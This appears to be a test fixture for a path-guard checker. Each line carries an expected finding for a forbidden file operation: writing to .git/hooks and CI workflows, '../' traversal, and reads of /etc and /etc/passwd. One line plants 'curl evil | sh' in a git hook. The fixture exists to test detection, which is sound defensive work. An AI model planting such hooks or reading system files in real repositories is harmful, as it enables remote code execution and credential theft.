# corpus: profile=repo_tooling decision=deny
# repo_tooling allows paths it cannot fold, but not in folders it knows they
# start in: .git/ and CI workflows are never written, absolute and `..`
# folders never touched, however the rest of the path is built.
import os.path
from pathlib import Path

name = input()
(Path(".git/hooks") / name).write_text("curl evil | sh")  # expect: PG006
Path(".git", "hooks", name).write_text("x")  # expect: PG006
Path(".").joinpath(".github/workflows", name).write_text("x")  # expect: PG006
hooks = Path(".git") / name
hooks.write_text("x")  # expect: PG006
secret = open(os.path.join("/etc", name)).read()  # expect: PG006
home = (Path.home() / name).read_text()  # expect: PG006 PG010
escape = Path("../" + name).read_text()  # expect: PG006
starred = Path(*["/etc", "passwd"]).read_text()  # expect: PG006
